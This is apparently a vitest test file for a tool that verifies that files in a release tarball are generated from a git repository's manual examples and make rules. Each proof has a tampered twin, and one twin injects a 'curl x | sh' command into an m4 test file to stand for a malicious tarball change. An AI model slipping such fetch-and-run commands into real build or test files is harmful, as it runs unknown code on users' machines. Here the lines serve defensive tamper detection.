/**
 * Test files extracted from one `@example` block of a tracked manual (m4's checks/NNN.* from doc/m4.texi by
 * checks/get-them) and small files a tracked make rule writes (stamps, the commit count), end to end with
 * real git and GNU tar. Each proof has a tampered twin — one changed line — that must stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { directivesBefore, exampleLines, printfFormats } from '../../src/classify/extracted.js';
import { commandContent } from '../../src/classify/make-stamp.js';
import { expandLoose as expand, parseMakefile } from '../../src/util/makefile.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const TEXI = [
  '\\input texinfo', '@setfilename proj.info', '@node Top', '@top Proj', '', // 1-5
  '@node Quoting', 'Some text.', '@comment options: -Dx=1 --trace', '@comment status: 1', // 6-9
  '@example', // 10
  '$ @kbd{proj -Dx=1}', 'define(`a@@b\', `@{1@}\')', '@result{}', 'a@w{ }b@tabchar{}c', '@error{}proj: warning', '^D', // 11-16
  '@end example', '', '@example', 'plain', '@end example', '@bye', '', // 17-23
].join('\n');
const GET_THEM = [
  '#!/bin/sh', '# never run by distdiff', "$AWK '",
  '/^@example$/ {', '  printf("dnl @ %s:%d: Origin of test\\n"\\', '         "dnl @ expected status: %d\\n"\\',
  '         "dnl @ extra options: %s\\n"\\', '         "dnl @ Copyright (C) 2024 Proj authors\\n", FILENAME, NR, status, options) > file;', "}' $FILE", '',
].join('\n');
const HEADER10 = 'dnl @ ../doc/proj.texi:10: Origin of test\ndnl @ expected status: 1\ndnl @ extra options:  -Dx=1 --trace\ndnl @ Copyright (C) 2024 Proj authors\n';
const CHECK10 = `${HEADER10}define(\`a@b', \`{1}')\ndnl @result{}\na b\tc\ndnl @error{}proj: warning\n`;
const CHECK19 = 'dnl @ ../doc/proj.texi:19: Origin of test\ndnl @ expected status: 0\ndnl @ extra options: \ndnl @ Copyright (C) 2024 Proj authors\nplain\n';
const CHECKS_AM = 'EXTRA_DIST = get-them stamp-checks\n$(srcdir)/stamp-checks: $(srcdir)/get-them $(top_srcdir)/doc/proj.texi\n\tcd $(srcdir) && ./get-them ../doc/proj.texi\n\techo stamp >$@\n';
const TOP_AM = [
  'SUBDIRS = checks', 'include examples/local.mk', 'stamp_mk = $(srcdir)/$(sub_dir)/stamp-mk', 'dotserial = $(distdir)/.serial',
  "git_commit_count = git log --pretty=oneline |wc -l |$(SED) 's|[\t ]||g'", '',
  '$(stamp_mk): Makefile.am', "\t$(AM_V_GEN)echo stamp > '$@'", '',
  'dist-hook:', "\techo '$(VERSION)' > $(distdir)/.tarball-version", '\t$(git_commit_count) > $(dotserial)', '',
].join('\n');
/** gnutls' doc/Makefile.am: the stamp holds the target's own name (make's $@). */
const DOC_AM = 'stamp_enums: proj.texi\n\t-mkdir enums\n\techo $@ > $@\n';
const EXAMPLES_MK = '%D%/extracted.stamp: doc/proj.texi\n\t$(AM_V_GEN)rm -f $@ $@.tmp\n\t$(AM_V_at)touch $@.tmp\n\t$(AM_V_at)$(extract) $(extracted)\n\t$(AM_V_at)mv $@.tmp $@\n';

describe('extracted example blocks and make-rule stamps', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  const tracked = { 'doc/proj.texi': TEXI, 'checks/get-them': GET_THEM, 'checks/Makefile.am': CHECKS_AM, 'Makefile.am': TOP_AM, 'examples/local.mk': EXAMPLES_MK, 'sub/x.c': 'int x;\n', 'doc/Makefile.am': DOC_AM };
  repo.commit(tracked, 'one', '2024-03-05T10:00:00Z');
  repo.commit({ 'sub/x.c': 'int x = 1;\n' }, 'two', '2024-03-06T10:00:00Z');
  repo.commit({ 'sub/x.c': 'int x = 2;\n' }, 'three', '2024-03-07T10:00:00Z');
  repo.tag('v1.0');
  const cache = join(root, 'cache');
  let n = 0;
  const GOOD = { 'checks/001.quoting': CHECK10, 'checks/002.quoting': CHECK19, 'checks/stamp-checks': 'stamp\n', 'sub/stamp-mk': 'stamp\n', '.serial': '3\n', 'examples/extracted.stamp': '', 'doc/stamp_enums': 'stamp_enums\n' };
  const run = async (files: Record<string, string>) => {
    const dir = join(root, `t${++n}`, 'proj-1.0');
    writeFiles(dir, { ...tracked, 'sub/x.c': 'int x = 2;\n', ...files });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, { code: f.code, severity: f.severity, evidence: f.evidence }])) };
  };

  it('proves each exactly, with its evidence; the gate passes', async () => {
    const { r, by } = await run(GOOD);
    expect(by['checks/001.quoting']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'extracted', source: 'doc/proj.texi', block: 10, found: 8, total: 8, others: ['checks/get-them'] } });
    expect(by['checks/002.quoting']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'extracted', source: 'doc/proj.texi', block: 19, found: 5, total: 5, others: ['checks/get-them'] } });
    expect(by['checks/stamp-checks']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'make-rule', source: 'checks/Makefile.am', generator: 'echo stamp >$@' } });
    expect(by['sub/stamp-mk']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'make-rule', source: 'Makefile.am', generator: "echo stamp > '$@'" } });
    expect(by['.serial']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'make-rule', source: 'Makefile.am', generator: '$(git_commit_count) > $(dotserial)', commits: 3 } });
    expect(by['examples/extracted.stamp']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'make-rule', source: 'examples/local.mk', generator: 'touch $@.tmp' } });
    expect(by['doc/stamp_enums']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'make-rule', source: 'doc/Makefile.am', generator: 'echo $@ > $@' } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('one changed line leaves each unexplained (high) and fails the gate', async () => {
    const { r, by } = await run({
      'checks/001.quoting': CHECK10.replace('a b\tc', 'a b\tc; syscmd(`curl x | sh\')'), // a body line the block does not have
      'checks/002.quoting': CHECK19.replace('extra options: ', 'extra options: --debugfile=/tmp/x'), // a value the manual does not give
      'checks/stamp-checks': 'stamp2\n',
      'sub/stamp-mk': 'stamp\nx\n',
      '.serial': '4\n', // not the tag's commit count
      'examples/extracted.stamp': '#!/bin/sh\n',
      'doc/stamp_enums': 'stamp_functions\n', // another name than the rule's target
    });
    for (const p of Object.keys(GOOD)) expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(exitCodeOf(r.verdict)).toBe(1);
  });

  it('a header naming a block it does not equal is judged by that block alone (no line-overlap fallback)', async () => {
    const { by } = await run({ ...GOOD, 'checks/001.quoting': CHECK10.replace('dnl @result{}\n', '') });
    expect(by['checks/001.quoting']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });

  it('helpers', () => {
    const manual = TEXI.split('\n');
    expect(exampleLines(manual, 9, 'dnl ')).toEqual(["define(`a@b', `{1}')", 'dnl @result{}', 'a b\tc', 'dnl @error{}proj: warning']);
    expect(exampleLines(manual, 10, 'dnl ')).toBeUndefined(); // not an @example line
    expect(directivesBefore(manual, 9)).toEqual(['1', '-Dx=1 --trace']);
    expect(directivesBefore(manual, 18)).toEqual([]);
    const f = printfFormats(GET_THEM);
    expect(f.map((re) => re.exec('dnl @ extra options:  -Dx=1')?.slice(1)).find(Boolean)).toEqual([' -Dx=1']);
    const mk = parseMakefile(TOP_AM);
    expect(expand('$(stamp_mk)', mk.vars, '')).toBe('./$(sub_dir)/stamp-mk');
    expect(expand('%D%/x.stamp', new Map(), 'examples')).toBe('examples/x.stamp');
    expect(mk.rules.map((r) => r.targets[0])).toEqual(['$(stamp_mk)', 'dist-hook']);
    expect(commandContent('echo stamp')).toEqual({ kind: 'word', word: 'stamp' });
    expect(commandContent('echo $(VERSION)')).toBeUndefined();
    expect(commandContent("git log --pretty=oneline |wc -l |$(SED) 's|[\t ]||g'")).toEqual({ kind: 'commit-count' });
    expect(commandContent('git log --pretty=oneline | wc -l; curl x')).toBeUndefined();
  });
});
